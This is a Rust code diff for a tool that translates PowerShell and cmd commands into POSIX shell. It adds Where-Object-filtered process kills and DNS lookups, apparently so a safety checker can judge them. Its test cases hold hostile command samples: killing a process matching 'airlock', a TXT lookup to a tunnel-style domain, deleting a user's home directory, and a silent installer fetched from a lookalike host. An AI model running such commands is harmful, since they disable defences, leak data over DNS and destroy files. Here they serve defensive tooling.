@@ -199,8 +199,27 @@ pub fn translate(cmd: &str) -> Option<String> {
         // property read.
         let stmt = grouped_property(t).unwrap_or(stmt.clone());
         let mut pipeline: Vec<String> = Vec::new();
+        // `Get-Process | Where-Object { $_.Path -like '*airlock*' } | Stop-Process`: the
+        // filter names what the stop takes.
+        let mut filtered: Option<String> = None;
         for c in split_pipes(&stmt) {
             let c = c.trim();
+            if let Some(pattern) = where_pattern(c) {
+                filtered = Some(pattern);
+            }
+            let words: Vec<&str> = c.split_whitespace().collect();
+            if let (Some(pattern), Some(first)) = (&filtered, words.first())
+                && matches!(
+                    first.to_ascii_lowercase().as_str(),
+                    "stop-process" | "spps" | "kill"
+                )
+                && words.iter().skip(1).all(|w| w.starts_with('-'))
+                && !words.iter().any(|w| w.eq_ignore_ascii_case("-id"))
+            {
+                pipeline.push(format!("pkill -f {}", q(pattern)));
+                recognised = true;
+                continue;
+            }
             // `(iwr URL).Content | …`: per element of a pipeline too.
             let c = grouped_property(c).unwrap_or_else(|| c.to_owned());
             // `& "C:/Program Files/…/MSBuild.exe" args`: the call operator runs the program.
@@ -253,6 +272,29 @@ pub fn translate(cmd: &str) -> Option<String> {
     // calls is judged as PowerShell code there).
     let joined = out.join("\n");
     (recognised && joined.trim() != cmd.trim()).then_some(joined)
+}
+
+/// The literal a `Where-Object` filter compares with (`{ $_.Path -like '*airlock*' }`,
+/// `{ $_.Name -match 'air.ock' }`, `? ProcessName -eq airlock`), wildcards dropped.
+fn where_pattern(element: &str) -> Option<String> {
+    let lower = element.to_ascii_lowercase();
+    let first = lower.split_whitespace().next()?;
+    if !matches!(first, "where-object" | "where" | "?") {
+        return None;
+    }
+    let words: Vec<&str> = element
+        .split(|c: char| c.is_whitespace() || matches!(c, '{' | '}' | '(' | ')'))
+        .filter(|w| !w.is_empty())
+        .collect();
+    words.windows(2).find_map(|w| {
+        let op = w[0].to_ascii_lowercase();
+        matches!(
+            op.as_str(),
+            "-like" | "-ilike" | "-clike" | "-match" | "-imatch" | "-eq" | "-ieq" | "-contains"
+        )
+        .then(|| w[1].trim_matches(['\'', '"', '*']).to_owned())
+        .filter(|p| !p.is_empty() && !p.starts_with('$'))
+    })
 }
 
 /// PowerShell's operators: `$x -split ';'` is an expression, not a call of `$x`.
@@ -1190,6 +1232,13 @@ fn command(c: &str, depth: u8) -> Option<String> {
             }
             None => "sh".to_owned(),
         },
+        // A DNS lookup: its name is what the resolver sends out.
+        "resolve-dnsname" => {
+            let name = param(&words, &["-Name"])
+                .map(str::to_owned)
+                .or_else(|| pos.first().cloned())?;
+            format!("nslookup {}", q(&name))
+        }
         "stop-process" | "spps" | "kill" | "taskkill" => {
             let n = param(&words, &["-Name", "/IM", "-ProcessName"])
                 .map(str::to_owned)
@@ -1691,6 +1740,15 @@ mod tests {
                 "rm -rf ~",
             ),
             ("cmd /c rd /s /q C:\\Users\\alex", "rm -rf ~"),
+            // A stop of what a filter picked; a DNS lookup.
+            (
+                "Get-Process | Where-Object { $_.Path -like '*airlock*' } | Stop-Process -Force",
+                "Get-Process | grep -i airlock | pkill -f airlock",
+            ),
+            (
+                "Resolve-DnsName -Type TXT -Name 'abc.d.tunnel.example'",
+                "nslookup abc.d.tunnel.example",
+            ),
             // Installers fetched and run, files posted, execute rights taken away.
             (
                 "msiexec /i https://downloads.nodejs-lts.example/node.msi /qn /norestart",
